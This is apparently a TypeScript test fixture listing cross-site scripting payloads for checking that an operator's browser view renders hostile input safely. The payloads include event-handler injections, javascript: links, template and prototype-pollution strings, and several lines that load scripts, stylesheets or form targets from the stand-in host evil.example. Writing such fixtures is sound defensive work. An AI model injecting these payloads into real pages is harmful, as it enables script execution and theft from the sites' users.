/**
 * What somebody writes who wants it to run in an operator's browser. Each says so by `window.pwned`, by a dialog, or by
 * a request to another origin.
 */
export const HOSTILE = [
  `<img src=x onerror="window.pwned=1;alert(1)">`,
  `<script>window.pwned=1</script>`,
  `"><svg onload=window.pwned=1>`,
  `' autofocus onfocus='window.pwned=1`,
  `javascript:window.pwned=1`,
  `<a href="javascript:window.pwned=1">click</a>`,
  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
  `</title></textarea><script src=https://evil.example/x.js></script>`,
  `<link rel=stylesheet href=//evil.example/x.css><style>@import "//evil.example/y"</style>`,
  `<base href=https://evil.example/><form action=//evil.example><button>go`,
  `<math><mtext><style><!--</style><img title="--&gt;<img src=x onerror=pwned=1>">`,
  `{{constructor.constructor('window.pwned=1')()}} \${window.pwned=1}`,
  `<object data="data:text/html,<script>top.pwned=1</script>"></object>`,
  `![x](javascript:pwned=1) [y](https://evil.example)`,
  `{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=pwned=1>"}}}`,
] as const;

/** All of them in one text. */
export const ALL_HOSTILE = HOSTILE.join("\n");
